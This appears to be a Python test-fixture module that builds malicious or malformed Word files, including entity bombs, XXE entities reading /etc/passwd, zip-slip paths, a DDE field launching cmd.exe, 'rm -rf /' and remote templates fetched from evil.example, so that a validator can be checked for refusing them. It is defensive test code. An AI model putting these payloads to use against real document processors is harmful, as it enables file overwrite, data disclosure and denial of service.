"""Word files that mean harm, or are broken, each with what becomes of it (RELIABILITY 42–46, 55).

`REFUSED`: name → (builder, code of the refusal). What is taken, but cleaned, is in `hostile_word_content`.
"""

import base64
import io
import random
import struct
import zipfile
from collections.abc import Callable

from tests.factories.word_files import (
    DOCM,
    W,
    document,
    drawing,
    members,
    packed,
    paragraph,
    part,
    png,
    relation,
    relations,
    run,
    table,
    word_file,
)

CANARY = "CHIM-HOANG-YEN"
KEPT = "Nội dung giữ lại"
Builder = Callable[[], bytes]
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_noise = random.Random(7)


def noise(count: int) -> str:
    """Letters that do not compress, so that only the check in question can refuse."""
    return base64.b64encode(_noise.randbytes(count)).decode()


def two_letters(count: int) -> bytes:
    """Letters that compress eight to one: too little to be taken for a bomb."""
    return _noise.randbytes(count).translate(bytes(97 + number % 2 for number in range(256)))


def padding(count: int = 200_000) -> str:
    return f'<w:p><w:pPr><w:x w:y="{noise(count)}"/></w:pPr></w:p>'


def with_raw(main: str | bytes) -> bytes:
    return packed(members(main=main))


def with_part(name: str, data: str | bytes = b"x") -> bytes:
    return packed({**members(body=paragraph(KEPT)), name: data})


def edited_entry(change: Callable[[zipfile.ZipInfo], None], data: bytes = b"x", name: str = "word/extra.bin") -> bytes:
    """An archive with one entry whose record is not what a program would write."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for member, content in members(body=paragraph(KEPT)).items():
            archive.writestr(member, content)
        info = zipfile.ZipInfo(name)
        change(info)
        archive.writestr(info, data)
    return out.getvalue()


def symlink() -> bytes:
    def change(info: zipfile.ZipInfo) -> None:
        info.create_system, info.external_attr = 3, 0o120777 << 16

    return edited_entry(change, b"/etc/passwd")


def renamed_in_place(name: str) -> bytes:
    """An entry whose stored name is replaced byte for byte: Python's writer would tidy it."""
    placeholder = "z" * len(name.encode("latin-1"))
    return with_part(placeholder).replace(placeholder.encode(), name.encode("latin-1"))


def duplicate_entries() -> bytes:
    first = "word/documenu.xml"
    data = packed({**members(body=paragraph(KEPT)), first: document(paragraph(CANARY))})
    return data.replace(first.encode(), b"word/document.xml")


def bad_crc() -> bytes:
    """The text itself is damaged: its checksum no longer agrees."""
    data = bytearray(packed(members(body=paragraph(KEPT)), compression=zipfile.ZIP_STORED))
    place = data.find("giữ lại".encode())
    data[place] = 0x47
    return bytes(data)


def corrupt_deflate() -> bytes:
    data = bytearray(word_file(body=paragraph(noise(3_000))))
    place = data.find(b"word/document.xml") + 60
    data[place : place + 40] = b"\xff" * 40
    return bytes(data)


def lying_size(*, says: int, holds: int) -> bytes:
    """The table of contents says another size than what the part unpacks to."""
    body = document(paragraph("A" * holds))
    data = bytearray(packed(members(main=body)))
    real = struct.pack("<I", len(body.encode()))
    at = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/document.xml"))
    data[at + 24 : at + 28] = struct.pack("<I", says)
    assert real
    return bytes(data)


def encrypted_entry() -> bytes:
    data = bytearray(word_file(body=paragraph(KEPT)))
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = -1
        while (at := data.find(mark, at + 1)) >= 0:
            data[at + place] |= 1
    return bytes(data)


def zip64_promise() -> bytes:
    """The end record says "more entries than fit here"."""
    data = bytearray(word_file(body=paragraph(KEPT)))
    at = data.rfind(b"PK\x05\x06")
    data[at + 8 : at + 12] = b"\xff\xff\xff\xff"
    return bytes(data)


def nested(times: int) -> str:
    opened = "<w:tbl><w:tr><w:tc>" * times
    return opened + paragraph(KEPT) + "</w:tc></w:tr></w:tbl>" * times


def entity_bomb(kind: str) -> bytes:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    declared = {
        "laughs": f'<!DOCTYPE w [<!ENTITY l0 "ha">{levels}]>',
        "quadratic": f'<!DOCTYPE w [<!ENTITY l9 "{"A" * 50_000}">]>',
        "external": '<!DOCTYPE w [<!ENTITY l9 SYSTEM "file:///etc/passwd">]>',
        "parameter": '<!DOCTYPE w [<!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd"> %p;<!ENTITY l9 "">]>',
        "plain": "<!DOCTYPE w>",
    }[kind]
    body = paragraph("<w:r><w:t>&l9;</w:t></w:r>" if kind != "plain" else KEPT)
    return with_raw('<?xml version="1.0"?>' + declared + document(body))


def many(count: int, item: Callable[[int], str]) -> str:
    return "".join(item(number) for number in range(count))


def distinct(number: int) -> str:
    return paragraph(f"{_noise.random()} {number}")


def fetched(kind: str, target: str, *, part_name: str = "word/_rels/settings.xml.rels") -> bytes:
    extra = {part_name: relations([relation("rX", kind, target, external=True)])}
    return packed({**members(body=paragraph(KEPT), parts={"word/settings.xml": part("settings", "")}), **extra})


def flat_bomb() -> bytes:
    return with_raw(document(paragraph("A" * 20_000_000)))


def with_field(instruction: str) -> bytes:
    def char(kind: str) -> str:
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'

    code = f"<w:r><w:instrText>{instruction}</w:instrText></w:r>"
    return word_file(body=paragraph(char("begin") + code + char("separate") + run(KEPT) + char("end")))


REFUSED: dict[str, tuple[Builder, str]] = {
    # other kinds of files under the name of a Word file
    "empty": (lambda: b"", "empty"),
    "program for Windows": (lambda: b"MZ\x90\0" + b"\0" * 60 + b"PE\0\0" + b"x" * 500, "program"),
    "program for Linux": (lambda: b"\x7fELF" + b"\0" * 500, "program"),
    "shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", "program"),
    "Word 97": (lambda: OLE + b"\0" * 2_000 + "WordDocument".encode("utf-16-le"), "old_word"),
    "password": (lambda: OLE + b"\0" * 2_000 + "EncryptedPackage".encode("utf-16-le"), "protected"),
    "RTF": (lambda: rb"{\rtf1\ansi {\object\objocx}}", "rich_text"),
    "HTML": (lambda: b"<html><script>alert(1)</script></html>", "web_page"),
    "HTML after a byte order mark": (lambda: b"\xef\xbb\xbf\n <!DOCTYPE html><body>", "web_page"),
    "web archive": (lambda: b"MIME-Version: 1.0\nContent-Type: multipart/related\n", "web_page"),
    "PDF": (lambda: b"%PDF-1.7\n%%EOF", "pdf"),
    "picture": (png, "not_word"),
    "plain text": ("Sở Ngoại vụ".encode, "not_word"),
    "NUL bytes": (lambda: b"\0" * 10_000, "not_word"),
    "spreadsheet": (lambda: packed({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<x/>"}), "other_office"),
    "slides": (lambda: packed({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<x/>"}), "other_office"),
    "OpenDocument": (
        lambda: packed({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}),
        "other_office",
    ),
    "any archive": (lambda: packed({"a.txt": "x"}), "not_word"),
    "no main part": (lambda: packed({n: d for n, d in members().items() if n != "word/document.xml"}), "not_word"),
    "main part outside": (
        lambda: packed(
            {
                **members(),
                "_rels/.rels": relations([relation("m", "officeDocument", "http://evil.example/d.xml", external=True)]),
            }
        ),
        "not_word",
    ),
    "no body": (lambda: with_raw(f'<w:document xmlns:w="{W}"/>'), "not_word"),
    # archives
    "truncated": (lambda: word_file(body=padding())[:20_000], "broken"),
    "only a head": (lambda: b"PK\x03\x04" + b"\0" * 100, "broken"),
    "bad checksum of the text": (bad_crc, "broken"),
    "corrupt compression": (corrupt_deflate, "broken"),
    "size that lies low": (lambda: lying_size(says=300, holds=500_000), "broken"),
    "size that lies high": (lambda: lying_size(says=300_000_000, holds=10), "unpacks_too_large"),
    "6,000 entries": (lambda: packed({**members(), **{f"word/x{n}": b"" for n in range(6_000)}}), "too_many_parts"),
    "more entries than fit": (zip64_promise, "too_many_parts"),
    "duplicate entries": (duplicate_entries, "ambiguous"),
    "entries that differ in case": (lambda: with_part("WORD/Document.xml", document(paragraph(CANARY))), "ambiguous"),
    "zip slip": (lambda: renamed_in_place("../../etc/cron.d/x"), "unsafe_names"),
    "zip slip with backslashes": (lambda: renamed_in_place("..\\..\\x.dat"), "unsafe_names"),
    "absolute name": (lambda: renamed_in_place("/etc/passwd"), "unsafe_names"),
    "name with a drive": (lambda: renamed_in_place("C:windows.dat"), "unsafe_names"),
    "NUL in a name": (lambda: renamed_in_place("word/a\0b.dat"), "unsafe_names"),
    "line break in a name": (lambda: renamed_in_place("word/a\r\nb.dat"), "unsafe_names"),
    "symbolic link": (symlink, "unsafe_names"),
    "encrypted entries": (encrypted_entry, "protected"),
    "archive inside": (lambda: with_part("word/media/x.zip", packed({"a": "b"})), "archive_inside"),
    "archive inside, renamed": (lambda: with_part("word/media/image1.png", packed({"a": "b"})), "archive_inside"),
    "Word file with macros inside": (lambda: with_part("word/embeddings/x.docm", b"PK\x03\x04"), "archive_inside"),
    # bombs
    "text of one letter": (flat_bomb, "bomb"),
    "part of 40 MB": (lambda: with_part("word/big.xml", two_letters(30_000_000)), "part_too_large"),
    "300 MB of pictures": (
        lambda: packed({**members(), **{f"word/media/{n}.bin": b"\0" * 60_000_000 for n in range(4)}}),
        "unpacks_too_large",
    ),
    "100,000 paragraphs": (lambda: with_raw(document(many(100_000, distinct))), "too_many_paragraphs"),
    "half a million elements": (lambda: with_raw(document("<w:x/>" * 500_000 + padding())), "too_much_markup"),
    "60,000 runs": (
        lambda: with_raw(document(paragraph(many(60_000, lambda n: f"<w:r><w:t>{n}</w:t></w:r>")) + padding())),
        "too_many_runs",
    ),
    "runs of two looks": (
        lambda: with_raw(document(paragraph((run("a", "<w:b/>") + run("b")) * 12_500) + padding())),
        "too_many_runs",
    ),
    "2 million letters": (lambda: with_raw(document(paragraph(noise(1_500_000)))), "too_much_text"),
    "5,000 links": (
        lambda: word_file(
            body=paragraph(
                many(
                    5_000,
                    lambda n: (
                        f'<w:fldSimple w:instr="HYPERLINK &quot;http://{n}.example&quot;">{run("x")}</w:fldSimple>'
                    ),
                )
            )
        ),
        "too_many_links",
    ),
    "200 pictures": (
        lambda: word_file(
            body=many(200, lambda _n: paragraph(drawing("p"))),
            parts={"word/media/a.png": png()},
            rows=[relation("p", "image", "media/a.png")],
        ),
        "too_many_pictures",
    ),
    "400 tables": (lambda: word_file(body=many(400, lambda n: table([f"{n}", "b"], ["c", "d"]))), "too_many_blocks"),
    # markup
    "not well-formed": (lambda: with_raw("<w:document"), "broken_markup"),
    "empty text part": (lambda: with_raw(b""), "broken_markup"),
    "bytes instead of markup": (lambda: with_raw(b"\xff\xfe\x00\x01" * 100), "broken_markup"),
    "unknown encoding": (lambda: with_raw('<?xml version="1.0" encoding="x-none"?><a/>'), "broken_markup"),
    "UTF-7": (lambda: with_raw('<?xml version="1.0" encoding="utf-7"?>+ADw-script+AD4-'), "broken_markup"),
    "100,000 deep": (lambda: with_raw(document("<w:ins>" * 100_000 + "</w:ins>" * 100_000 + padding())), "too_deep"),
    "tables in tables": (lambda: word_file(body=nested(60)), "too_deep"),
    "fields in fields": (
        lambda: word_file(body=paragraph('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 60)),
        "too_deep",
    ),
    "billion laughs": (lambda: entity_bomb("laughs"), "document_type"),
    "quadratic entities": (lambda: entity_bomb("quadratic"), "document_type"),
    "entity of a file": (lambda: entity_bomb("external"), "document_type"),
    "entity from the net": (lambda: entity_bomb("parameter"), "document_type"),
    "document type alone": (lambda: entity_bomb("plain"), "document_type"),
    "entities in the styles": (
        lambda: word_file(
            body=paragraph(KEPT), parts={"word/styles.xml": '<!DOCTYPE s [<!ENTITY a "b">]>' + part("styles", "")}
        ),
        "document_type",
    ),
    # what would run or fetch
    "macros": (lambda: with_part("word/vbaProject.bin", OLE), "active_content"),
    "macros under another name": (lambda: word_file(body=paragraph(KEPT), content_type=DOCM), "active_content"),
    "ActiveX": (lambda: with_part("word/activeX/activeX1.xml", "<x/>"), "active_content"),
    "packaged program": (
        lambda: with_part("word/embeddings/oleObject1.bin", OLE + "\x01Ole10Native".encode("utf-16-le")),
        "active_content",
    ),
    "script among the parts": (lambda: with_part("word/run.vbs", b"x"), "active_content"),
    "program as a picture": (
        lambda: with_part("word/media/image1.png", b"MZ" + b"\0" * 60 + b"PE\0\0"),
        "active_content",
    ),
    "DDE": (lambda: with_field(r'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"'), "active_content"),
    "template from the net": (lambda: fetched("attachedTemplate", "https://evil.example/x.dotm"), "fetches"),
    "template from a share": (lambda: fetched("attachedTemplate", "\\\\host\\share\\x.dotm"), "fetches"),
    "template from a share, as an address": (lambda: fetched("attachedTemplate", "file://///host/x.dotm"), "fetches"),
    "linked object": (
        lambda: fetched("oleObject", "mhtml:http://evil.example/x!x", part_name="word/_rels/document.xml.rels"),
        "fetches",
    ),
    "frame": (lambda: fetched("frame", "http://evil.example/", part_name="word/_rels/document.xml.rels"), "fetches"),
    # nothing to read
    "no text": (lambda: word_file(body=paragraph()), "nothing_to_read"),
    "hidden text only": (lambda: word_file(body=paragraph(run(CANARY, "<w:vanish/>"))), "nothing_to_read"),
}
